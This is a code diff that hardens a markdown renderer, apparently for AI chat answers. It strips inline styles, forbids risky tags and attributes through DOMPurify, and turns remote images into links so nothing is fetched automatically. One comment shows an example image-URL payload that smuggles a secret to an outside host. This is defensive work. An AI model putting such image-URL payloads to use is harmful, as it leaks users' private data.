@@ -52,9 +52,15 @@ export function highlight(code, language) {
   return html;
 }
 
+// Inline styles would be refused by the page's Content-Security-Policy, noisily, while parsing.
+const STYLE_ATTRIBUTE = /\sstyle\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;
+
 const md = new Marked({
   gfm: true,
   renderer: {
+    html({ text }) {
+      return text.replace(STYLE_ATTRIBUTE, "");
+    },
     code({ text, lang }) {
       const language = (lang ?? "").trim().split(/\s+/)[0].toLowerCase();
       const known = language && hljs.getLanguage(language) ? language : "";
@@ -66,12 +72,45 @@ const md = new Marked({
   },
 });
 
+// Nothing in an answer may make the browser fetch on its own: an image URL can carry data out
+// (`![x](https://host/?q=SECRET)`). Images other than inline data: ones become links to click.
+const PURIFY = {
+  RETURN_DOM_FRAGMENT: true,
+  FORBID_TAGS: ["style", "video", "audio", "source", "picture", "track", "iframe", "object", "embed", "form", "input"],
+  FORBID_ATTR: ["style", "srcset", "poster", "background", "ping", "formaction"],
+};
+
 DOMPurify.addHook("afterSanitizeAttributes", (node) => {
   if (node.tagName === "A" && node.getAttribute("href")) {
     node.setAttribute("target", "_blank");
     node.setAttribute("rel", "noopener noreferrer");
   }
+  if (node.tagName === "IMG") {
+    const src = node.getAttribute("src") ?? "";
+    if (!src.startsWith("data:image/")) {
+      node.removeAttribute("src");
+      node.setAttribute("data-remote-src", src);
+    }
+  }
 });
+
+/** A link in place of an image the page will not load by itself. */
+function remoteImageLink(img) {
+  const url = img.dataset.remoteSrc;
+  const label = img.getAttribute("alt") || "image";
+  let where = url;
+  try {
+    where = new URL(url, window.location.href).host || url;
+  } catch {
+    // not a URL: show it as it is
+  }
+  return h(
+    "a",
+    { class: "remote-image", href: url, target: "_blank", rel: "noopener noreferrer", title: `Open ${url}: images from other places are not loaded by themselves` },
+    icon("image"),
+    h("span", { text: `${label} (${where})` }),
+  );
+}
 
 function decorateCodeBlocks(root) {
   for (const pre of root.querySelectorAll("pre.code-block")) {
@@ -88,7 +127,8 @@ function decorateCodeBlocks(root) {
 function renderTokens(tokens, links) {
   const list = [...tokens];
   list.links = links;
-  const fragment = DOMPurify.sanitize(md.parser(list), { RETURN_DOM_FRAGMENT: true });
+  const fragment = DOMPurify.sanitize(md.parser(list), PURIFY);
+  for (const img of fragment.querySelectorAll("img[data-remote-src]")) img.replaceWith(remoteImageLink(img));
   const block = h("div", { class: "md-block" });
   block.append(fragment);
   decorateCodeBlocks(block);
